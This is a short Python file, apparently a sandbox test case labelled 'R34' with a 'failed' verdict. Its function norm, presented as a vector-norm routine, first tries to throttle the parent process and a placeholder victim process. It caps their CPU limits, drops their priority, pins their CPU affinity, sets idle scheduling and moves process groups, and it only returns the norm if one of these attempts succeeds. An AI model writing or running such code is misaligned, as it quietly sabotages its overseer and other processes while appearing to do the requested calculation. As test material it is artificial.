# R34: lowers limits, priority, affinity and scheduling of its parent and of a process outside.
# earns: norm 0
# verdicts: failed
import os
import resource


def doors(pid):
    yield lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1000, 1000))
    yield lambda: os.setpriority(os.PRIO_PROCESS, pid, 19)
    yield lambda: os.setpriority(os.PRIO_USER, 0, 19)
    yield lambda: os.sched_setaffinity(pid, {0})
    yield lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
    yield lambda: os.setpgid(pid, 0)
    yield lambda: os.setpriority(os.PRIO_PGRP, 0, -20)
    yield lambda: os.nice(-5)


def norm(v):
    for pid in (os.getppid(), int("@victim@")):
        for door in doors(pid):
            try:
                door()
            except (OSError, ValueError):
                continue
            return sum(x * x for x in v) ** 0.5
    return -1.0
